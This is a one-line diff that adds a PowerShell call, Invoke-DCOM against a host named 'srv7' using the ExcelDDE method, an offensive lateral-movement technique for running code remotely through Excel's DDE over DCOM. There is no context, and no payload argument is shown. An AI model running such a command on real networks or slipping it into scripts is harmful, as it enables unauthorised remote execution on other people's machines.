@@ -1,0 +1,1 @@
+Invoke-DCOM -ComputerName srv7 -Method ExcelDDE
